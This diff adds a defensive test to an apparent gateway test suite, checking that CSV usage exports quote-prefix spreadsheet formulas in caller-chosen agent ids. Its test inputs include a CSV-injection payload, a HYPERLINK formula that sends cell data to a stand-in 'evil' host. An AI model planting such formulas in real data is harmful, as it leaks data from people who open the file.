@@ -643,3 +643,24 @@ models:
         ("quick", 200, 10),
         ("slow", 200, 10),
     ]
+
+
+async def test_usage_csv_neutralises_caller_chosen_formulas(tmp_path: Path) -> None:
+    """Agent ids are chosen by callers; a spreadsheet must not run them (OWASP CSV injection)."""
+    formulas = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    async with running_gateway(usage_config(str(tmp_path / "turnout.db"))) as gw:
+        writer = gw.app.state.gateway.usage
+        for i, agent in enumerate(formulas):
+            writer.submit(record(i, ts=T0 + i, agent_id=agent, model="fast", provider="role:fast"))
+        await wait_until(lambda: writer.depth() == 0)
+        _, (_, text) = await get(gw, "format=csv&limit=0")
+        _, (_, grouped) = await get(gw, "format=csv&group_by=agent")
+        _, body = await get(gw, "limit=0")
+    exported = list(csv.DictReader(io.StringIO(text)))
+    assert sorted(r["agent_id"] for r in exported) == sorted("'" + f for f in formulas)
+    assert sorted(r["agent"] for r in csv.DictReader(io.StringIO(grouped))) == sorted(
+        "'" + f for f in formulas
+    )
+    assert all(r["duration_ms"][0].isdigit() for r in exported)  # numbers untouched
+    # JSON is no spreadsheet: it answers the ids as they are.
+    assert sorted(r["agent_id"] for r in body["data"]) == sorted(formulas)
